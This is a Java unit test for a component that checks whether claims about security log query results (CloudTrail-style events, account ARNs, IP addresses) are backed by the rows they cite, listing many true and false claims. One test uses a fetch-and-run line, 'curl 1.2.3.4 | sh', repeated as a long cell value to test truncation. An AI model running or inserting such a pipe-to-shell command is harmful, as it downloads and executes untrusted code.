package routes.looker;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import routes.playbooks.Playbook;
import routes.playbooks.Playbooks;

/** What the checker of claims believes, and what it does not. */
class ProofTest {
    private static final String SEARCHED = "from_cloudtrail_readready from 2026-11-01 to 2026-11-20";
    private static final String ARN = "arn:aws:sts::111122223333:assumed-role/Admin/jane.doe";

    private final Proof proof = new Proof(List.of(
            result(
                    "Q1",
                    "select eventname, count(*) n, avg(ms) ms from t where eventname <> 'GetObject' group by 1",
                    List.of("eventname", "n", "ms"),
                    row("StartSession", "6", "12.345"),
                    row("DeleteTrail", "1", "-42"),
                    row("ConsoleLogin", "1234", "0.5"),
                    row("CreateUser", "59", null)),
            result(
                    "Q2",
                    "select * from from_cloudtrail_readready where useridentity_arn like '%jane.doe%'",
                    List.of(
                            "eventtime",
                            "useridentity_arn",
                            "sourceipaddress",
                            "eventid",
                            "requestparameters",
                            "errorcode"),
                    row(
                            "2026-11-20 12:03:44.000",
                            ARN,
                            "203.0.113.7",
                            "0a1b2c3d-1111-4222-8333-444455556666",
                            "{\"target\":\"i-0abc123\",\"port\":22,\"url\":\"https://evil.example/x\"}",
                            "AccessDenied"),
                    row(
                            "2026-11-19 23:59:01.250",
                            "arn:aws:iam::999988887777:user/sam.lee",
                            "10.0.0.25",
                            "99999999-2222-4333-8444-555566667777",
                            "{\"maxResults\":50,\"bucket\":\"logs-2026\"}",
                            null)),
            result("Q3", "select * from t where eventname = 'StopLogging'", List.of("eventname", "n")),
            result("Q4", "select count(*) n from t where eventname = 'DeleteBucket'", List.of("n"), row("0")),
            result(
                    "Q5",
                    "select logcalendarday, failed, total, share from x",
                    List.of("logcalendarday", "failed", "total", "share"),
                    row("20261118", "3", "12", "0.25"),
                    row("20261119", "1", "4", "0.25"))));

    @Test
    void whatRowsSayIsProved() {
        Map<String, List<String>> right = new LinkedHashMap<>();
        claims(
                right,
                "StartSession was called 6 times.; Q1#1",
                "StartSession was called six times.; Q1#1",
                "DeleteTrail was called once.; Q1#2",
                "DeleteTrail was called one time.; Q1#2",
                "ConsoleLogin was called 1,234 times.; Q1#3",
                "ConsoleLogin was called 1234 times.; Q1#3",
                "ConsoleLogin was called 1234.0 times.; Q1#3",
                "There were 1300 calls in all.; Q1",
                "StartSession and DeleteTrail were called 7 times together.; Q1#1, Q1#2",
                "StartSession and DeleteTrail were called 7 times together.; Q1",
                "Four kinds of calls were made.; Q1",
                "4 kinds of calls were made; Q1",
                "Between 1 and 1234 calls of a kind were made.; Q1",
                "Calls of a kind range from 1-1234.; Q1",
                "Calls of a kind range from 1–1,234.; Q1",
                "ConsoleLogin is 94.9 % of the calls.; Q1",
                "ConsoleLogin makes up 95 percent of the calls.; Q1",
                "The mean of DeleteTrail is -42 ms.; Q1#2",
                "The mean of DeleteTrail is −42.; Q1#2",
                "The mean of StartSession is 12.345 ms.; Q1#1",
                "The mean of StartSession is 12.3 ms.; Q1#1",
                "The mean of ConsoleLogin is 0.50.; Q1#3",
                "The mean of ConsoleLogin is 0.5ms.; Q1#3",
                "jane.doe did it at 2026-11-20 12:03:44.; Q2#1",
                "jane.doe did it at 2026-11-20T12:03:44Z.; Q2#1",
                "jane.doe did it at 12:03 UTC on 20 November 2026.; Q2#1",
                "On November 20, 2026 jane.doe was denied.; Q2#1",
                "On 2026-11-20 jane.doe was denied.; Q2#1",
                "On Nov 20 jane.doe was denied.; Q2#1",
                "The 20th of November saw a denial.; Q2#1",
                "Both events are of November 2026.; Q2",
                "Both events happened in 2026.; Q2",
                ARN + " was denied.; Q2#1",
                "⟦" + ARN + "⟧ was denied.; Q2#1",
                "Account 111122223333 is concerned.; Q2#1",
                "Account 1111-2222-3333 is concerned.; Q2#1",
                "The address was 203.0.113.7.; Q2#1",
                "Event 0a1b2c3d-1111-4222-8333-444455556666 was denied.; Q2#1",
                "Event 0a1b2c3d was denied (Q2#1).; Q2#1",
                "The target was i-0abc123 on port 22.; Q2#1",
                "At most 50 results of the bucket 'logs-2026' were asked for.; Q2#2",
                "The parameters hold hxxps://evil.example/x as a URL.; Q2#1",
                "The parameters were {\"maxResults\":50,\"bucket\":\"lo… and more.; Q2#2",
                "jane.doe was denied with Access… on 2026-11-20.; Q2#1",
                "sam.lee came from 10.0.0.25 at 23:59:01.; Q2#2",
                "Two events were found.; Q2",
                "jane.doe made one request.; Q2#1",
                "No event StopLogging was found.; Q3",
                "Nothing was found from 2026-11-01 to 2026-11-20.; Q3",
                "There were no events between 1 November and 20 November 2026.; Q3",
                "In the 20 days searched nobody called StopLogging.; Q3",
                "Zero rows came back.; Q3",
                "Searched were the days from 2026-11-01 to 2026-11-20.; Q3",
                "Searched was from_cloudtrail_readready since November 1.; Q3",
                "DeleteBucket was not called.; Q4",
                "DeleteBucket was called 0 times.; Q4",
                "No call of DeleteBucket was made.; Q4",
                "3 of 12 calls failed on 2026-11-18.; Q5#1",
                "3/12 calls failed on 18 November.; Q5#1",
                "25 % of the calls failed on day 20261118.; Q5#1",
                "Calls failed 4 times on two days.; Q5",
                "There were 16 calls, 75 % of them on 2026-11-18.; Q5",
                "No more than 12 calls were made on a day.; Q5",
                "Session Manager and S3 are AWS services that CloudTrail logs.; Q1#1");
        assertThat(right.entrySet().stream()
                        .map(claim -> proof.check(new Claim(claim.getKey(), claim.getValue())))
                        .filter(checked -> !checked.isProved()))
                .isEmpty();
        assertThat(right).hasSizeGreaterThanOrEqualTo(40);
    }

    @Test
    void whatRowsDoNotSayIsMarked() {
        Map<String, List<String>> wrong = new LinkedHashMap<>();
        claims(
                wrong,
                "StartSession was called 7 times.; Q1#1",
                "StartSession was called seven times.; Q1#1",
                "StartSession was called 1 time.; Q1#1",
                "StartSession was called 1 time.; Q1",
                "StartSession was called once.; Q1#1",
                "StartSession was called twice.; Q1#1",
                "StartSession was called 59 times.; Q1",
                "StartSession was called -6 times.; Q1#1",
                "StartSession was called 6.5 times.; Q1#1",
                "StartSession was called 60 times.; Q1#1",
                "StartSession was called a dozen times.; Q1#1",
                "StopSession was called 6 times.; Q1#1",
                "GetObject was called 6 times.; Q1#1",
                "ConsoleLogin was called 123 times.; Q1#3",
                "ConsoleLogin was called 12,34 times.; Q1#3",
                "ConsoleLogin was called 1,235 times.; Q1#3",
                "ConsoleLogin is 80 % of the calls.; Q1",
                "ConsoleLogin is 100 % of the calls.; Q1",
                "There were 1301 calls in all.; Q1",
                "Five kinds of calls were made.; Q1",
                "Between 3 and 1234 calls of a kind were made.; Q1#2, Q1#3",
                "Calls of a kind range from 5-1234.; Q1#2, Q1#3",
                "The mean of DeleteTrail is 42.; Q1#2",
                "The mean of StartSession is 12.4.; Q1#1",
                "DeleteTrail was called 1 time.; Q1#1",
                "DeleteTrail was called.; Q1#9",
                "DeleteTrail was called.; Q7",
                "DeleteTrail was called.; ",
                "jane.doe did it at 2026-11-21 12:03:44.; Q2#1",
                "jane.doe did it at 2026-11-20 12:04:44.; Q2#1",
                "jane.doe did it at 03:44.; Q2#1",
                "jane.doe was denied on 1 November 2026.; Q2#1",
                "jane.doe was denied on 2026-11-01.; Q2#1",
                "jane.doe was denied on November 19.; Q2#1",
                "Both events happened in 2025.; Q2",
                "Both events are of October 2026.; Q2",
                ARN.replace("jane", "joan") + " was denied.; Q2#1",
                ARN.replace("Admin", "Adm1n") + " was denied.; Q2#1",
                ARN.replace("111122223333", "111122223334") + " was denied.; Q2#1",
                "joan.doe was denied.; Q2#1",
                "It was done by Bob.; Q2#1",
                "It was done by joan.do… at noon.; Q2#1",
                "User 'mallory' was denied.; Q2#1",
                "mallory@example.com was denied.; Q2#1",
                "Account 11112222333 is concerned.; Q2#1",
                "Account 999988887777 is concerned.; Q2#1",
                "The address was 203.0.113.70.; Q2#1",
                "The address was 203.0.113.; Q2#1",
                "The address was 3.0.113.7.; Q2#1",
                "Event 0a1b2c3e was denied.; Q2#1",
                "The target was i-0abc12.; Q2#1",
                "The target was i-0abc123 on port 2222.; Q2#1",
                "20 events were found.; Q2",
                "Three events were found.; Q2",
                "StopLogging was called.; Q3",
                "jane.doe called StopLogging.; Q3",
                "StopLogging was called twice.; Q3",
                "Nothing was found from 2026-10-01 to 2026-11-20.; Q3",
                "In the 30 days searched nobody called StopLogging.; Q3",
                "DeleteBucket was called.; Q4",
                "DeleteBucket was called 2 times.; Q4",
                "No event was found.; Q2#1",
                "Nobody was denied.; Q2#1",
                "There were no calls of StartSession.; Q1#1",
                "4 of 12 calls failed on 2026-11-18.; Q5#1",
                "3 of 12 calls failed on 2026-11-17.; Q5#1",
                "30 % of the calls failed.; Q5#1");
        assertThat(wrong.entrySet().stream()
                        .map(claim -> proof.check(new Claim(claim.getKey(), claim.getValue())))
                        .filter(Proof.Checked::isProved))
                .isEmpty();
        assertThat(wrong).hasSizeGreaterThanOrEqualTo(40);
    }

    @Test
    void sentencesOfPlaybooksAreProvedByTheirRows() {
        for (Playbook playbook : Playbooks.bundled().all()) {
            Map<String, String> cells = new LinkedHashMap<>();
            Pattern.compile("\\{([a-z]+)}")
                    .matcher(playbook.row())
                    .results()
                    .map(hole -> hole.group(1))
                    .forEach(name -> cells.put(
                            name, name.endsWith("time") ? "2026-11-20 12:03:44.100" : name + "-x" + cells.size()));
            QueryResult one = result("Q1", "select 1", List.copyOf(cells.keySet()), new ArrayList<>(cells.values()));
            String text = Pattern.compile("\\{([a-z]+)}")
                    .matcher(playbook.row())
                    .replaceAll((MatchResult hole) -> cells.get(hole.group(1)));
            assertThat(new Proof(List.of(one))
                            .check(new Claim(text, List.of("Q1#1")))
                            .faults())
                    .as(text)
                    .isEmpty();
            QueryResult none = result("Q1", "select 1", List.copyOf(cells.keySet()));
            assertThat(new Proof(List.of(none))
                            .check(new Claim(playbook.none(), List.of("Q1")))
                            .faults())
                    .as(playbook.none())
                    .isEmpty();
        }
    }

    @Test
    void aLongCellMayBeRepeatedAsAModelSeesIt() {
        String cell = "curl 1.2.3.4 | sh; ".repeat(60);
        Proof long1 = new Proof(List.of(result("Q1", "select 1", List.of("typed"), row(cell))));
        assertThat(long1.check(new Claim("Typed was " + Cells.cut(cell), List.of("Q1#1")))
                        .faults())
                .isEmpty();
    }

    /** Each is a text, a semicolon, and what it cites. */
    private static void claims(Map<String, List<String>> into, String... claims) {
        for (String claim : claims) {
            int at = claim.lastIndexOf(';');
            String cites = claim.substring(at + 1).strip();
            // Two may say the same of different rows.
            into.put(
                    claim.substring(0, at) + " ".repeat(into.size()),
                    cites.isEmpty() ? List.of() : List.of(cites.split(", ")));
        }
    }

    private static List<String> row(String... cells) {
        return Arrays.asList(cells);
    }

    @SafeVarargs
    private static QueryResult result(String id, String sql, List<String> columns, List<String>... rows) {
        return new QueryResult(
                id,
                sql,
                "why",
                Instant.parse("2026-11-20T13:00:00Z"),
                columns,
                columns.stream().map(column -> "varchar").toList(),
                List.of(rows),
                false,
                SEARCHED,
                "hash",
                "execution",
                0,
                0,
                0);
    }
}
